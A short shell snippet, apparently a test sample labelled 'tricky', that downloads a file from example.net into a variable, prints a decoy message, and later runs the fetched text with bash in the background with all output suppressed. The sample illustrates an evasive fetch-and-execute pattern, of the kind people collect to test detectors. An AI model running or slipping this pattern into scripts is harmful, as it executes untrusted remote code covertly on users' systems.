# tricky: downloads into a variable, runs it later
payload=$(curl -fsSL https://example.net/update.txt)
echo "checking"
sleep 1
bash -c "$payload" >/dev/null 2>&1 &
